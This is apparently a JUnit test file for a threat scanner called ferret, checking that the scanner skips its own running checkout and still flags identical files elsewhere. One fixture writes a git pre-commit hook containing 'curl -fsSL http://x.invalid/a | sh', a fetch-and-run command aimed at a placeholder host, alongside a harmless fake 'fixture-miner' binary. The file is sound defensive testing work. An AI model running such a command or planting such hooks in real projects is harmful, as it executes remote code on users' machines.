package dev.ferret.scan;

import dev.ferret.collect.CollectOptions;
import dev.ferret.data.DetectionData;
import dev.ferret.memory.MemoryScanOptions;
import dev.ferret.model.Coverage;
import dev.ferret.model.Finding;
import dev.ferret.rules.LoadedRules;
import dev.ferret.rules.TestRules;
import dev.ferret.sweep.Progress;
import dev.ferret.sweep.SweepOptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.time.Clock;
import java.time.Duration;
import java.util.EnumSet;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** ferret never reports the checkout it runs from, and finds the very same files anywhere else. */
class OwnFilesTest {
    private static final String RULES = "rule Own_Fixture_Marker { strings: $a = \"OWN-FIXTURE-MARKER\" "
            + "condition: $a }\n";

    /** A clone as a new user makes it: launcher, pom, .git hooks, build output, test fixtures, a sample. */
    private static Path checkout(Path at) throws Exception {
        Files.createDirectories(at.resolve(".git/hooks"));
        Files.writeString(at.resolve(".git/hooks/pre-commit"), "#!/bin/sh\ncurl -fsSL http://x.invalid/a | sh\n");
        Files.writeString(at.resolve("pom.xml"), "<project/>\n");
        Files.writeString(at.resolve("ferret"), "#!/usr/bin/env bash\nexec java -cp scanner/target/x.jar\n");
        Files.createDirectories(at.resolve("scanner/target/classes"));
        Path fixtures = at.resolve("scanner/src/test/resources");
        try (Stream<Path> walk = Files.walk(Path.of("src/test/resources"))) {
            for (Path p : (Iterable<Path>) walk::iterator) {
                Path to = fixtures.resolve(Path.of("src/test/resources").relativize(p).toString());
                if (Files.isDirectory(p)) {
                    Files.createDirectories(to);
                } else {
                    Files.copy(p, to, StandardCopyOption.REPLACE_EXISTING);
                }
            }
        }
        Files.writeString(fixtures.resolve("sample.yar.txt"), "OWN-FIXTURE-MARKER\n");
        Path elf = at.resolve("scanner/target/fixture-miner");
        Files.copy(Path.of("/bin/true"), elf);
        elf.toFile().setExecutable(true);
        return at.resolve("scanner/target/classes");
    }

    private static ScanResult scan(Path root, OwnFiles own) throws Exception {
        DetectionData data = DetectionData.builtIn();
        try (LoadedRules rules = TestRules.compile(RULES)) {
            SweepOptions sweep = new SweepOptions(List.of("/tmp"), 4 << 20, 2, 10, true, null,
                    own.roots());
            SignatureScan plan = new SignatureScan(Optional.of(rules), sweep,
                    new MemoryScanOptions(Set.of(), 1 << 20, 1, 1, 1), Progress.none(), true);
            ScanEngine engine = new ScanEngine(Catalog.linuxCollectors(data, plan), Catalog.primaryDetectors(),
                    Catalog.pivotDetectors(), Clock.systemUTC());
            return engine.run(new ScanRequest(EnumSet.of(Area.SWEEP, Area.FILES, Area.PERSISTENCE), root, false,
                    new CollectOptions(Duration.ofMillis(100), false), data, own), new Coverage());
        }
    }

    private static boolean reported(ScanResult r, String prefix) {
        return r.findings().stream().map(Finding::file).anyMatch(f -> f != null && f.path().startsWith(prefix));
    }

    @Test
    @Timeout(120)
    void theRunningCheckoutIsCountedNotReportedAndTheSameFilesElsewhereAreFound(@TempDir Path root)
            throws Exception {
        Path code = checkout(root.resolve("tmp/ferret"));
        checkout(root.resolve("tmp/other"));
        // a module's test scratch folder, where the integration tests plant real threats, is not ferret's own
        Files.writeString(root.resolve("tmp/ferret/scanner/pom.xml"), "<project/>\n");
        Path planted = root.resolve("tmp/ferret/scanner/target/it-work/PoolMinerIT-1/bin/fixture-miner");
        Files.createDirectories(planted.getParent());
        Files.copy(root.resolve("tmp/ferret/scanner/target/fixture-miner"), planted);
        OwnFiles own = OwnFiles.forCode(code, List.of());
        assertTrue(own.owns(root.resolve("tmp/ferret/.git/hooks/pre-commit")));
        assertTrue(own.owns(root.resolve("tmp/ferret/scanner/target/fixture-miner")));
        assertFalse(own.owns(planted), "test scratch is scanned like any other place");
        assertFalse(own.owns(root.resolve("tmp/other/.git/hooks/pre-commit")));

        ScanResult result = scan(root, own);

        assertFalse(result.findings().stream().map(Finding::file).anyMatch(f -> f != null
                && f.path().startsWith("/tmp/ferret/") && !f.path().contains("/it-work/")), result.findings().toString());
        assertTrue(reported(result, "/tmp/ferret/scanner/target/it-work/"), result.findings().toString());
        assertTrue(reported(result, "/tmp/other/scanner/target/fixture-miner"), result.findings().toString());
        assertTrue(reported(result, "/tmp/other/scanner/src/test/resources/sample.yar.txt"),
                result.findings().toString());
        assertTrue(result.snapshot().coverage().gaps().stream()
                .anyMatch(g -> g.reason().equals("ferret's own files")), "counted in coverage");
    }

    @Test
    @Timeout(120)
    void aLookalikeFolderIsNotOwnWithoutTheRunningCodeInside(@TempDir Path root) throws Exception {
        checkout(root.resolve("tmp/ferret"));
        // the same layout, but ferret runs from somewhere else: its name grants nothing
        OwnFiles own = OwnFiles.forCode(root.resolve("opt/elsewhere/ferret.jar"), List.of());
        ScanResult result = scan(root, own);
        assertTrue(reported(result, "/tmp/ferret/scanner/target/fixture-miner"), result.findings().toString());
    }
}
